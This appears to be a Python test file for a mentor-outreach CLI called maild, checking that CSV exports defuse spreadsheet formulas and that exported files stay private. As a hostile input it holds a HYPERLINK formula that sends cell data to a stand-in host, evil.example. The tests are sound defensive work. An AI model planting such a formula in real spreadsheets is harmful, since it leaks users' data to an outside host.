"""What maild writes for the user to open elsewhere: CSV cells are data, files private.

A connection point copied from a web page can be ``=HYPERLINK(...)``; exported as is, a
spreadsheet runs it. Exports and template overrides hold mentors' names and what the
user writes to them, so other users of the machine must not read them.
"""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from maild.app.hitlist_csv import FORMULA_PREFIXES, _imported_cell, csv_cell
from maild.cli import cli

hostile = st.one_of(
    st.text(max_size=30),
    st.tuples(st.sampled_from([*FORMULA_PREFIXES, "'", "''", "'="]), st.text(max_size=20))
    .map("".join),
)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Dr. Rivera\'s paper")'


@given(hostile)
def test_no_cell_starts_like_a_formula(value: str) -> None:
    assert not csv_cell(value).startswith(FORMULA_PREFIXES)


@given(hostile)
def test_importing_an_exported_cell_gives_the_value_back(value: str) -> None:
    assert _imported_cell(csv_cell(value)) == value


def invoke(home: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--home", str(home), *args],
                                env={"MAILD_NOW": "2026-11-16T10:00:00-05:00", "EDITOR": "true"})
    assert result.exit_code == 0, result.output
    return result.output


def test_export_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    home = tmp_path / "home"
    invoke(home, "mentor", "add", "Dana Rivera", "--email", "drivera@med.example.edu",
           "--connection-point", HYPERLINK, "--notes", "+1 555 0100", "--grant-status",
           "@risk")
    out = tmp_path / "hitlist.csv"
    invoke(home, "mentor", "export", "-o", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [v for row in rows for v in row.values() if v]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells), cells
    assert "'" + HYPERLINK in cells
    # The file is the user's alone, and reads back as the same hit list.
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    other = tmp_path / "other"
    invoke(other, "mentor", "import", str(out))
    shown = invoke(other, "mentor", "show", "Rivera", "--json")
    assert HYPERLINK.replace('"', '\\"') in shown and '"+1 555 0100"' in shown


def test_export_over_an_existing_readable_file_makes_it_private(tmp_path: Path) -> None:
    home = tmp_path / "home"
    invoke(home, "mentor", "add", "Dana Rivera", "--email", "drivera@med.example.edu")
    out = tmp_path / "hitlist.csv"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o644)
    invoke(home, "mentor", "export", "-o", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "Dana Rivera" in out.read_text(encoding="utf-8")


def test_template_overrides_are_private(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / "config.toml").write_text("", encoding="utf-8")
    invoke(home, "template", "edit", "cold_initial")
    directory = home / "templates"
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    files = list(directory.iterdir())
    assert files and all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
